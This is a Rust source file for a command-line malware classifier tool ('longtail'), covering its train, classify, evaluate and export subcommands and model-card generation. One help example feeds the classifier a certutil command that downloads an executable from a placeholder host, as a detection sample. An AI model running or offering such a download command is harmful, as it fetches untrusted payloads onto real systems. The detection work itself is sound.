//! The classifier's subcommands: `train-classifier`, `classify`, `evaluate`, `export`.

use super::data::{self, named_path, source_group};
use super::{Classifier, ClassifierBundle, ClassifierConfig, Threshold, TrainRequest};
use crate::error::{Context, Error, Result};
use crate::evaluate::{Report, ReportOptions};
use crate::{Globals, table};
use arrow::array::{ArrayRef, Float64Array, RecordBatch, StringArray};
use arrow::datatypes::{DataType, Field, Schema};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Instant;

/// `longtail train-classifier`
#[derive(clap::Args, Debug)]
#[command(after_help = "Examples:
  longtail train-classifier --train data/sample/nl2bash.jsonl data/sample/atomic_red_team.jsonl \\
      --config configs/classifier.toml --out runs/baseline
  longtail train-classifier --train baseline.parquet --augment labeled.benign.parquet \\
      --augment-weight 2 --out runs/augmented")]
pub struct TrainArgs {
    /// Labeled lines (Parquet, JSONL, CSV, text; gz/zstd) with `cmd` and `label`; labels other
    /// than benign/malicious are skipped and counted.
    #[arg(long, required = true, num_args = 1..)]
    pub train: Vec<PathBuf>,
    /// Benign augmentation lines, e.g. the labeler's `.benign.parquet`: every row counts as
    /// benign, whatever its label column says.
    #[arg(long, num_args = 1..)]
    pub augment: Vec<PathBuf>,
    /// Loss weight of an augmentation line relative to a baseline benign line (overrides the
    /// config's training.augment_weight).
    #[arg(long)]
    pub augment_weight: Option<f64>,
    /// Start from this classifier directory's weights (fine-tuning); its architecture is used.
    #[arg(long)]
    pub init: Option<PathBuf>,
    /// Output directory: config.json, model.safetensors, threshold.json, checkpoint/.
    #[arg(long, short)]
    pub out: PathBuf,
    /// Classifier config (TOML, e.g. configs/classifier.toml); defaults are built in.
    #[arg(long, short)]
    pub config: Option<PathBuf>,
    /// Continue from the last finished epoch in OUT/checkpoint.
    #[arg(long)]
    pub resume: bool,
    /// Override the config's number of epochs.
    #[arg(long)]
    pub epochs: Option<usize>,
}

pub fn train_cli(args: &TrainArgs, globals: &Globals) -> Result<()> {
    let mut config = match &args.config {
        Some(p) => ClassifierConfig::from_toml_file(p)?,
        None => ClassifierConfig::default(),
    };
    if let Some(e) = args.epochs {
        config.optim.epochs = e;
    }
    if let Some(w) = args.augment_weight {
        config.training.augment_weight = w;
    }
    config.validate()?;
    let start = Instant::now();
    let bundle = super::train(
        &TrainRequest {
            config: &config,
            train: &args.train,
            augment: &args.augment,
            init: args.init.as_deref(),
            out: &args.out,
            resume: args.resume,
        },
        globals,
    )?;
    let threshold: Threshold = data::read_json(&args.out.join("threshold.json"), "threshold")?;
    let t = bundle.training.as_ref().expect("set by train");
    let v = bundle.validation.as_ref().expect("set by train");
    let rate = t.lines_per_sec.iter().sum::<f64>() / t.lines_per_sec.len().max(1) as f64;
    eprintln!(
        "trained {} epochs in {:.1}s ({rate:.0} lines/s); best validation loss {:.4} (epoch {}); \
         validation ROC AUC {}; threshold {:.4} ({}); model in {}",
        t.epochs_done,
        start.elapsed().as_secs_f64(),
        t.best_val.unwrap_or(f64::NAN),
        t.best_epoch.map_or(0, |e| e + 1),
        v.roc_auc.map_or("n/a".into(), |a| format!("{a:.4}")),
        threshold.threshold,
        threshold.method,
        args.out.display()
    );
    Ok(())
}

/// `longtail classify`
#[derive(clap::Args, Debug)]
#[command(after_help = "Examples:
  longtail classify --model models/cmdline-cnn data/sample/nl2bash.jsonl -o scores.parquet
  echo 'certutil -urlcache -f http://x/a.exe a.exe' | longtail classify --model models/cmdline-cnn -
models/cmdline-cnn is the shipped model (scripts/train_shipped_model.sh; card in its README.md).")]
pub struct ClassifyArgs {
    /// Classifier directory (from train-classifier or export).
    #[arg(long, short)]
    pub model: PathBuf,
    /// Lines to score: Parquet/JSONL/CSV with a `cmd` column, or text (one command a line);
    /// `-` reads standard input.
    #[arg(required = true, num_args = 1..)]
    pub input: Vec<String>,
    /// Output: `.parquet` or `.jsonl` (cmd, score, label); standard output (JSONL) if absent or `-`.
    #[arg(long, short)]
    pub output: Option<PathBuf>,
    /// Padded token positions per batch (memory vs. speed).
    #[arg(long, default_value_t = 32_768)]
    pub batch_tokens: usize,
}

pub fn classify_cli(args: &ClassifyArgs, globals: &Globals) -> Result<()> {
    let classifier = Classifier::load(&args.model, globals)?;
    let mut lines = Vec::new();
    let opts = crate::ingest::read::ReadOptions::default();
    crate::ingest::read::for_each_record_ref(&args.input, &opts, |r| {
        lines.push(r.cmd.to_owned());
        Ok(())
    })?;
    let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
    let bar = crate::progress::bar(refs.len() as u64, "classify", "lines");
    let start = Instant::now();
    let scores = classifier.score(&refs, args.batch_tokens, |n| bar.inc(n as u64));
    let secs = start.elapsed().as_secs_f64();
    bar.finish_and_clear();
    let labels: Vec<&str> = scores
        .iter()
        .map(|&s| {
            if classifier.is_malicious(s) {
                "malicious"
            } else {
                "benign"
            }
        })
        .collect();
    let flagged = labels.iter().filter(|&&l| l == "malicious").count();
    match args.output.as_deref() {
        Some(p) if p.extension().is_some_and(|e| e == "parquet") => {
            write_scores_parquet(p, &lines, &scores, &labels)?;
        }
        Some(p) if p != Path::new("-") => {
            let mut buf = Vec::new();
            write_jsonl(&mut buf, &lines, &scores, &labels)?;
            table::write_atomic(p, &buf)?;
        }
        _ => {
            let stdout = std::io::stdout();
            let mut out = std::io::BufWriter::new(stdout.lock());
            write_jsonl(&mut out, &lines, &scores, &labels)?;
            out.flush()?;
        }
    }
    eprintln!(
        "classified {} lines in {:.2}s ({:.0} lines/s); {flagged} flagged malicious at threshold {:.4}",
        lines.len(),
        secs,
        lines.len() as f64 / secs.max(1e-9),
        classifier.threshold.threshold
    );
    Ok(())
}

fn write_jsonl(
    out: &mut impl Write,
    lines: &[String],
    scores: &[f64],
    labels: &[&str],
) -> Result<()> {
    for ((cmd, score), label) in lines.iter().zip(scores).zip(labels) {
        let row = serde_json::json!({"cmd": cmd, "score": score, "label": label});
        serde_json::to_writer(&mut *out, &row).runtime_ctx(|| "writing scores")?;
        out.write_all(b"\n")?;
    }
    Ok(())
}

fn write_scores_parquet(
    path: &Path,
    lines: &[String],
    scores: &[f64],
    labels: &[&str],
) -> Result<u64> {
    let schema = Arc::new(Schema::new(vec![
        Field::new("cmd", DataType::Utf8, false),
        Field::new("score", DataType::Float64, false),
        Field::new("label", DataType::Utf8, false),
    ]));
    let columns: Vec<ArrayRef> = vec![
        Arc::new(StringArray::from_iter_values(lines)),
        Arc::new(Float64Array::from(scores.to_vec())),
        Arc::new(StringArray::from_iter_values(labels)),
    ];
    let batch = RecordBatch::try_new(schema, columns).runtime_ctx(|| "building the score table")?;
    table::write_parquet(path, &batch)
}

/// `longtail evaluate`
#[derive(clap::Args, Debug)]
#[command(after_help = "Example:
  longtail evaluate --test test.jsonl --model baseline=runs/baseline \\
      --model augmented=runs/augmented --out runs/eval --title 'hard test set'")]
pub struct EvaluateArgs {
    /// Labeled test lines (`cmd`, `label` benign/malicious; `source` and `platform` give the
    /// breakdown tables). Several files form one test set.
    #[arg(long, required = true, num_args = 1..)]
    pub test: Vec<PathBuf>,
    /// A classifier to evaluate, as NAME=DIR; repeat to compare several in one report.
    #[arg(long = "model", required = true)]
    pub models: Vec<String>,
    /// Report directory: report.json, report.md, roc.svg, roc-linear.svg, hist-NAME.svg.
    #[arg(long, short)]
    pub out: PathBuf,
    /// Report title (names the test set).
    #[arg(long, default_value = "test set")]
    pub title: String,
    /// Padded token positions per batch (memory vs. speed).
    #[arg(long, default_value_t = 32_768)]
    pub batch_tokens: usize,
}

pub fn evaluate_cli(args: &EvaluateArgs, globals: &Globals) -> Result<()> {
    let models: Vec<(String, PathBuf)> = args
        .models
        .iter()
        .map(String::as_str)
        .map(named_path)
        .collect::<Result<_>>()?;
    let rows = data::read_rows(&args.test, true)?;
    let mut skipped = std::collections::BTreeMap::<String, u64>::new();
    let (mut cmds, mut labels, mut sources, mut platforms) = (vec![], vec![], vec![], vec![]);
    for row in rows {
        match data::parse_label(row.label.as_deref()) {
            Some(l) => {
                labels.push(l);
                sources.push(row.source.as_deref().map_or("(none)".into(), source_group));
                platforms.push(row.platform.unwrap_or_else(|| "(none)".into()));
                cmds.push(row.cmd);
            }
            None => {
                *skipped
                    .entry(row.label.unwrap_or_else(|| "(none)".into()))
                    .or_default() += 1
            }
        }
    }
    if !skipped.is_empty() {
        tracing::info!("skipped test rows by label (not benign/malicious): {skipped:?}");
    }
    if cmds.is_empty() {
        return Err(Error::input(
            "the test set has no row labeled benign or malicious; pass files with a `label` column",
        ));
    }
    let mut groups: Vec<(&str, &[String])> = Vec::new();
    if sources.iter().any(|s| s != "(none)") {
        groups.push(("source", sources.as_slice()));
    }
    if platforms.iter().any(|p| p != "(none)") {
        groups.push(("platform", platforms.as_slice()));
    }
    let refs: Vec<&str> = cmds.iter().map(String::as_str).collect();
    let mut report = Report::new(args.title.clone(), ReportOptions::default());
    for (name, dir) in &models {
        let classifier = Classifier::load(dir, globals)?;
        let bar = crate::progress::bar(refs.len() as u64, name, "lines");
        let scores = classifier.score(&refs, args.batch_tokens, |n| bar.inc(n as u64));
        bar.finish_and_clear();
        let m = report.add(name, &scores, &labels, &groups)?;
        eprintln!(
            "{name}: ROC AUC {:.4}, PR AUC {:.4} on {} lines ({} malicious)",
            m.metrics.roc_auc, m.metrics.pr_auc, m.metrics.count, m.metrics.positives
        );
    }
    let files = report.write_all(&args.out)?;
    eprintln!(
        "report: {} ({} and charts in {})",
        files.markdown.display(),
        files.json.display(),
        args.out.display()
    );
    Ok(())
}

/// `longtail export`
#[derive(clap::Args, Debug)]
#[command(after_help = "Example:
  longtail export --model runs/augmented --out models/cnn-augmented
  python3 scripts/load_classifier.py models/cnn-augmented")]
pub struct ExportArgs {
    /// Trained classifier directory (from train-classifier).
    #[arg(long, short)]
    pub model: PathBuf,
    /// Destination folder, e.g. models/NAME: model.safetensors, config.json, threshold.json,
    /// tokenizer.json (BPE models), README.md (model card).
    #[arg(long, short)]
    pub out: PathBuf,
    /// Name on the model card (default: the destination folder's name).
    #[arg(long)]
    pub name: Option<String>,
}

pub fn export_cli(args: &ExportArgs, globals: &Globals) -> Result<()> {
    // Loading proves the folder is complete and the weights match the config; the CPU is
    // enough for that, so no GPU is probed.
    let flex = Globals {
        device: crate::device::DeviceChoice::Flex,
        seed: globals.seed,
    };
    let classifier = Classifier::load(&args.model, &flex)?;
    let name = args.name.clone().unwrap_or_else(|| {
        args.out
            .file_name()
            .map_or("classifier".into(), |n| n.to_string_lossy().into_owned())
    });
    let mut files = vec!["model.safetensors", "config.json", "threshold.json"];
    if classifier.tokens.kind() == super::tokens::TokenKind::Bpe {
        files.push(super::tokens::TOKENIZER_FILE);
    }
    for file in files {
        let from = args.model.join(file);
        let bytes = std::fs::read(&from).input_ctx(|| format!("cannot read {}", from.display()))?;
        table::write_atomic(&args.out.join(file), &bytes)?;
    }
    let card = model_card(&name, &classifier);
    table::write_atomic(&args.out.join("README.md"), card.as_bytes())?;
    eprintln!(
        "exported {} -> {}",
        args.model.display(),
        args.out.display()
    );
    Ok(())
}

/// A short model card: what the model is, what it was trained on, how it scored.
pub fn model_card(name: &str, classifier: &Classifier) -> String {
    let b: &ClassifierBundle = &classifier.bundle;
    let m = &b.config.model;
    let t = &classifier.threshold;
    let fmt = |x: Option<f64>| x.map_or("n/a".to_string(), |v| format!("{v:.4}"));
    let tokens = match m.tokenizer {
        super::tokens::TokenKind::Bytes => "byte tokens".to_string(),
        super::tokens::TokenKind::Bpe => format!(
            "byte-level BPE tokens (vocabulary of {} ids, `tokenizer.json`, learnt on the \
             training lines)",
            m.vocab_size
        ),
    };
    let mut s = format!(
        "# {name}\n\nA CNN command-line classifier from `longtail` ({}): {tokens}, embedding {}, \
         {} filters of widths {:?}, ReLU, max-pool over time, dropout {}, one logit; lines longer \
         than {} tokens keep their first and last halves. {} parameters. Score = sigmoid(logit), \
         the probability that the line is malicious.\n\n",
        b.format,
        m.embed_dim,
        m.filters,
        m.widths,
        m.dropout,
        m.max_len,
        super::parameter_count(&classifier.model)
    );
    s += "## Data\n\n";
    s += &format!(
        "- labeled files: {}\n- augmentation files (benign): {}\n- unique lines: {} benign, {} \
         malicious, {} augmentation (weight {})\n- skipped rows by label: {:?}; duplicates merged: \
         {}; conflicting labels dropped: {}\n- malicious loss weight: {:.3}; seed {}; trained on {}\n",
        list(&b.data.train_files),
        list(&b.data.augment_files),
        b.data.benign,
        b.data.malicious,
        b.data.augment,
        b.config.training.augment_weight,
        b.data.skipped_labels,
        b.data.duplicates,
        b.data.conflicts,
        b.pos_weight,
        b.seed,
        b.device
    );
    if let Some(init) = &b.init_from {
        s += &format!("- fine-tuned from {init}\n");
    }
    s += "\n## Training and validation\n\n";
    if let Some(tr) = &b.training {
        let rate = tr.lines_per_sec.iter().sum::<f64>() / tr.lines_per_sec.len().max(1) as f64;
        s += &format!(
            "- {} epochs (best {}), best validation loss {}, {rate:.0} training lines/s\n",
            tr.epochs_done,
            tr.best_epoch.map_or(0, |e| e + 1),
            fmt(tr.best_val)
        );
    }
    if let Some(v) = &b.validation {
        s += &format!(
            "- validation split (hash of the text, {:.0} %): {} lines ({} malicious): ROC AUC {}, \
             PR AUC {}\n",
            b.config.training.val_fraction * 100.0,
            v.lines,
            v.malicious,
            fmt(v.roc_auc),
            fmt(v.pr_auc)
        );
    }
    s += &format!(
        "- threshold {:.6} ({}): {}; validation FPR {}, TPR {}\n\n",
        t.threshold,
        t.method,
        t.note,
        fmt(t.validation_fpr),
        fmt(t.validation_tpr)
    );
    s += "Validation lines come from the training distribution: these figures are not a test on \
          unseen sources; use `longtail evaluate` on a held-out test set for that.\n\n";
    let name_dir = format!("models/{name}");
    s += &format!(
        "## Use\n\n```sh\nlongtail classify --model {name_dir} lines.txt -o scores.parquet\n\
         python3 scripts/load_classifier.py {name_dir}   # numpy + safetensors only\n```\n\n\
         Files: `model.safetensors` (weights; tensor names follow the module paths: \
         `embed.weight` [V+1, E] (V = {} token ids, row V = padding), `convs.N.weight` \
         [F, E, k], `convs.N.bias`, `head.weight` [F*W, 1], `head.bias`), `config.json` \
         (architecture, data, training history), `threshold.json`{}.\n",
        m.vocab(),
        if m.tokenizer == super::tokens::TokenKind::Bpe {
            ", `tokenizer.json` (Hugging Face tokenizers format; the Python loader reimplements \
             its byte-level BPE)"
        } else {
            ""
        }
    );
    s
}

fn list(items: &[String]) -> String {
    if items.is_empty() {
        "none".into()
    } else {
        items
            .iter()
            .map(|i| format!("`{i}`"))
            .collect::<Vec<_>>()
            .join(", ")
    }
}
